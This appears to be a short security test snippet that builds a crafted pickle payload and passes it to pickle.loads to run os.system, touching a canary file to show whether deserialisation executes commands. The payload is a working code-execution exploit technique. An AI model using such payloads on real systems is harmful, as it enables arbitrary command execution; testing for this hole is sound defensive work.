# attack: pickle.loads of a payload that calls os.system
import pickle
payload = b"cos\nsystem\n(S'touch " + canary_write_path.encode() + b"'\ntR."
pickle.loads(payload)
